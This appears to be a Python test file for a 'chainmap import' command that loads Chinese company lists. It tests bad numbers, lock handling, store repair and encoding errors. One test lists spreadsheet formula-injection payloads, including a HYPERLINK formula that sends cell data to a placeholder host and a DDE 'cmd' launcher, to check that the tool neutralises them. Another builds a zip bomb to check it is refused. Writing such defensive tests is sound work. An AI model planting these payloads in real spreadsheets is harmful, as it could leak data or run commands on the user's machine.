"""Hostile and unlucky inputs to `chainmap import`: whatever it writes loads again; it refuses to write
where the loader would misread; one import at a time, with a repair for a broken store; formulas are
never live in the rejects file; zip bombs, mixed encodings, absurd numbers and clocks get a located
message and exit 2; names keep the user's punctuation."""

from __future__ import annotations

import csv
import json
import os
import zipfile
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from chainmap import load_library
from chainmap.cli import main
from chainmap.errors import ChainmapError, UsageError
from chainmap.importer import ImportOptions, run_import
from chainmap.importer.repair import repair_store
from chainmap.importer.store import StoreLock
from chainmap.store import LOCK, read_table

from ..test_import import VALID, write_csv

HEADER = [
    "企业名称",
    "统一社会信用代码",
    "登记状态",
    "注册资本(万元)",
    "成立日期",
    "参保人数",
    "所属城市",
    "主营产品",
    "上市代码",
    "官网",
    "注册地址",
]


class Result:
    """A command's exit code and output as the `chainmap` entry point gives them (chainmap's errors
    are mapped to exit 2 with their message there, in `chainmap.cli.run`)."""

    def __init__(self, res):
        exc = res.exception
        if isinstance(exc, ChainmapError):
            self.exit_code, self.output = 2, res.output + str(exc)
        else:
            self.exit_code, self.output = res.exit_code, res.output


def cli(*args: str) -> Result:
    return Result(CliRunner().invoke(main, list(args)))


def _row(name: str, **kw: str) -> list[str]:
    vals = {
        "code": "",
        "status": "存续",
        "capital": "",
        "founded": "",
        "staff": "",
        "city": "",
        "products": "乙中间体",
        "stock": "",
        "web": "",
        "addr": "",
    } | kw
    return [name, *vals.values()]


# -- whatever the importer writes, the loader loads ------------------------------------------------

_cell = st.one_of(
    st.text(max_size=30),
    st.sampled_from(
        [
            "1" * 400,
            "-5",
            "inf",
            "nan",
            "1e400",
            "-0",
            "9" * 25,
            "0.00001",
            "=1+1",
            "@SUM(A1)",
            "\x07",
            "\x00a",
            "2024-13-45",
            "99999-01-01",
            "0000-00-00",
            "１２３",
            "   ",
            "-",
            "\u2028",
        ]
    ),
)


_KNOWN = [
    ["", "存续", "1" * 400, "", "9" * 25, "", "", "", "", ""],
    ["", "存续", "-5", "9999-99-99", "-3", "", "", "x", "=1", "\x07"],
]


@example(cells=_KNOWN, store="yaml")
@example(cells=_KNOWN, store="parquet")
@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    cells=st.lists(st.lists(_cell, min_size=len(HEADER) - 1, max_size=len(HEADER) - 1), min_size=1, max_size=6),
    store=st.sampled_from(["yaml", "parquet"]),
)
def test_whatever_is_written_loads_again(mini, tmp_path_factory, cells, store):
    tmp = tmp_path_factory.mktemp("h")
    root = tmp / "chains"
    os.system(f"cp -a {mini} {root}")
    rows = [HEADER] + [[f"甲{i}化工有限公司", *c] for i, c in enumerate(cells)]
    f = write_csv(tmp / "名单_20240601.csv", [[x.replace("\x00", "") for x in r] for r in rows])
    s = run_import(load_library(root), ImportOptions(file=f, store=store, progress=False))
    assert s.adds_up()
    lib = load_library(root)  # must not raise
    assert sum(1 for c in lib.companies if c.startswith("imp_")) <= s.imported


def test_values_out_of_range_reject_the_row_with_a_reason(mini, tmp_path):
    f = write_csv(
        tmp_path / "名单_20240601.csv",
        [
            HEADER,
            _row("甲化工有限公司", capital="1" * 400),
            _row("乙化工有限公司", capital="-5"),
            _row("丙化工有限公司", staff="9" * 25, capital="50"),
            _row("丁化工有限公司", capital="很多", staff="-3"),
            _row("戊化工有限公司", capital="很多", staff="120人"),
        ],
    )
    s = run_import(load_library(mini), ImportOptions(file=f, progress=False))
    assert (s.rows, s.imported, s.rejected) == (5, 1, 4) and s.adds_up()
    assert s.warnings == {"注册资本无法识别或超出范围，已留空": 1}  # text that is no amount: kept, field empty
    with Path(s.rejects).open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    reasons = {r[2]: r[1] for r in rows[1:]}  # name -> reason (row number, reason, then the cells as read)
    assert "注册资本“11111111111111111111…（共400个字符）”超出范围" in reasons["甲化工有限公司"]
    assert reasons["乙化工有限公司"].startswith("注册资本“-5”为负数")
    assert "参保人数“9999999999" in reasons["丙化工有限公司"] and "超出范围" in reasons["丙化工有限公司"]
    assert reasons["丁化工有限公司"].startswith("参保人数“-3”为负数")
    assert rows[1][2:] == _row("甲化工有限公司", capital="1" * 400)  # the row as the user wrote it
    lib = load_library(mini)
    imported = {c.name: c for c in lib.companies.values() if c.id.startswith("imp_")}
    assert set(imported) == {"戊化工有限公司"} and imported["戊化工有限公司"].employees == 120


# -- outputs the loader would misread -------------------------------------------------------------


@pytest.mark.parametrize("where", ["imported.yaml", "companies/x.yaml", "regions/r.yaml", "imported/sub/x.yaml"])
def test_output_inside_the_library_but_not_in_imported_is_refused(mini, tmp_path, where):
    f = write_csv(tmp_path / "名单.csv", [HEADER, _row("甲化工有限公司")])
    res = cli("--chains", str(mini), "import", str(f), "-o", str(mini / where))
    assert res.exit_code == 2 and "imported" in res.output and str(mini / "imported") in res.output
    assert not (mini / where).exists()
    load_library(mini)
    ok = cli("--chains", str(mini), "import", str(f), "-o", str(mini / "imported" / "x.yaml"))
    assert ok.exit_code == 0, ok.output


# -- one import at a time; a repair for duplicates ---------------------------------------------------


def test_a_held_lock_names_its_holder_and_a_stale_one_is_taken_over(mini, tmp_path):
    f = write_csv(tmp_path / "名单.csv", [HEADER, _row("甲化工有限公司")])
    folder = mini / "imported"
    with StoreLock(folder):  # held by this (live) process
        res = cli("--chains", str(mini), "import", str(f))
        assert res.exit_code == 2 and f"进程 {os.getpid()}" in res.output and LOCK in res.output
    assert not (folder / LOCK).exists()
    info = {"pid": 999999999, "host": os.uname()[1], "user": "x", "started": "t", "command": "c"}
    (folder / LOCK).write_text(json.dumps(info), encoding="utf-8")  # its process has ended
    (folder / ".stale.yaml.chainmap-abc.tmp").write_text("half", encoding="utf-8")
    (folder / ".someone-else.tmp").write_text("not ours", encoding="utf-8")
    res = cli("--chains", str(mini), "import", str(f))
    assert res.exit_code == 0, res.output
    assert sorted(p.name for p in folder.iterdir()) == [".someone-else.tmp", "名单.yaml"]


def test_repair_merges_duplicate_ids_keeping_the_newest(mini, tmp_path):
    a = write_csv(tmp_path / "a_20240101.csv", [HEADER, _row("甲化工有限公司", city="宁波"), _row("乙化工有限公司")])
    run_import(load_library(mini), ImportOptions(file=a, progress=False, store="parquet"))
    folder = mini / "imported"
    t = read_table(folder / "a_20240101.parquet")
    # what two concurrent imports of old left behind: the same firms in a second store, newer
    newer = t.set_column(t.column_names.index("city"), "city", __import__("pyarrow").array(["南京市"] * len(t)))
    import datetime as dt

    import pyarrow as pa

    newer = newer.set_column(newer.column_names.index("as_of"), "as_of", pa.array([dt.date(2024, 6, 1)] * 2))
    pq.write_table(
        newer.replace_schema_metadata(pq.read_schema(folder / "a_20240101.parquet").metadata), folder / "b.parquet"
    )
    res = cli("--chains", str(mini), "import", "--repair")
    assert res.exit_code == 0 and "2 家企业有重复记录，删除了 2 条" in res.output, res.output
    lib = load_library(mini, imported="graph")  # the placed firms as Company objects
    assert {c.city for c in lib.companies.values() if c.id.startswith("imp_")} == {"南京市"}
    assert repair_store(folder).removed == {}  # nothing left to repair
    assert not (folder / "a_20240101.parquet").exists()


# -- formulas never live in the rejects file -------------------------------------------------------

PAYLOADS = ['=HYPERLINK("http://x/?d="&A1,"点此")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


def test_rejects_file_neutralises_formulas(mini, tmp_path):
    rows = [HEADER] + [_row(p, code="91350100M000100Y44", products=p) for p in PAYLOADS]
    f = write_csv(tmp_path / "名单.csv", rows)
    s = run_import(load_library(mini), ImportOptions(file=f, progress=False))
    assert s.rejected == len(PAYLOADS)
    with open(s.rejects, encoding="utf-8-sig", newline="") as fh:
        body = list(csv.reader(fh))[1:]
    for cells in body:
        for c in cells:
            assert not c.startswith(("=", "+", "-", "@", "\t", "\r")), c
    assert {r[2] for r in body} == {"'" + p for p in PAYLOADS}  # the text itself is kept, behind a quote


# -- exhaustion and internal errors -------------------------------------------------------------------


def test_xlsx_zip_bomb_is_refused_before_reading(mini, tmp_path):
    bomb = tmp_path / "名单.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        with zf.open("xl/worksheets/sheet1.xml", "w") as fh:
            block = b"\0" * (1 << 20)
            for _ in range(40):
                fh.write(block)
    assert bomb.stat().st_size < 1 << 20
    res = cli("--chains", str(mini), "import", str(bomb))
    assert res.exit_code == 2 and "sheet1.xml" in res.output and "拒绝" in res.output


def test_mixed_encodings_name_the_line(mini, tmp_path):
    f = tmp_path / "名单.csv"
    lines = [",".join(HEADER)] + [",".join(_row(f"甲{i}化工有限公司")) for i in range(20000)]
    data = ("\n".join(lines) + "\n").encode("utf-8") + ",".join(_row("乙化工有限公司")).encode("gbk") + b"\n"
    f.write_bytes(data)
    res = cli("--chains", str(mini), "import", str(f))
    assert res.exit_code == 2 and "第20002行" in res.output and "Traceback" not in res.output, res.output
    assert not (mini / "imported").exists() or not any((mini / "imported").iterdir())


def test_future_mtime_without_a_date_asks_for_as_of(mini, tmp_path):
    f = write_csv(tmp_path / "名单.csv", [HEADER, _row("甲化工有限公司")])
    os.utime(f, (2**33, 2**33))
    res = cli("--chains", str(mini), "import", str(f))
    assert res.exit_code == 2 and "--as-of" in res.output
    assert cli("--chains", str(mini), "import", str(f), "--as-of", "2024-06-01").exit_code == 0


def test_unwritable_output_is_a_message_not_a_traceback(mini, tmp_path):
    f = write_csv(tmp_path / "名单.csv", [HEADER, _row("甲化工有限公司", code="91350100M000100Y44")])
    blocker = tmp_path / "afile"
    blocker.write_text("x", encoding="utf-8")
    res = cli("--chains", str(mini), "import", str(f), "-o", str(blocker / "out.parquet"))
    assert res.exit_code == 2 and "afile" in res.output and "Traceback" not in res.output, res.output


def test_names_keep_the_users_punctuation(mini, tmp_path):
    f = write_csv(
        tmp_path / "名单.csv", [HEADER, _row("BASF (China) Co., Ltd.", code=VALID), _row("甲 化工（宁波）有限公司")]
    )
    run_import(load_library(mini), ImportOptions(file=f, progress=False))
    names = {c.name for c in load_library(mini).companies.values() if c.id.startswith("imp_")}
    assert names == {"BASF (China) Co., Ltd.", "甲化工（宁波）有限公司"}
    again = write_csv(tmp_path / "名单.csv", [HEADER, _row("BASF（China）Co.,Ltd.")])
    s = run_import(load_library(mini), ImportOptions(file=again, progress=False))
    assert (s.imported, s.updated) == (0, 1)  # matched through the normalised name, not a second firm


def test_lock_is_released_after_an_error(mini, tmp_path):
    f = write_csv(tmp_path / "名单.csv", [HEADER, _row("甲化工有限公司")])
    with pytest.raises(UsageError):
        run_import(
            load_library(mini), ImportOptions(file=f, progress=False, as_of=__import__("datetime").date(2999, 1, 1))
        )
    assert not (mini / "imported" / LOCK).exists()


def test_repair_works_when_duplicates_stop_the_library_from_loading(mini, tmp_path):
    f = write_csv(tmp_path / "a.csv", [HEADER, _row("甲化工有限公司"), _row("乙化工有限公司")])
    run_import(load_library(mini), ImportOptions(file=f, progress=False, as_of=__import__("datetime").date(2024, 1, 1)))
    folder = mini / "imported"
    (folder / "b.yaml").write_bytes((folder / "a.yaml").read_bytes())  # what two imports at once left behind
    with pytest.raises(ChainmapError):
        load_library(mini)
    res = cli("--chains", str(mini), "import", "--repair")
    assert res.exit_code == 0 and "删除了 2 条" in res.output, res.output
    assert sum(1 for c in load_library(mini).companies if c.startswith("imp_")) == 2
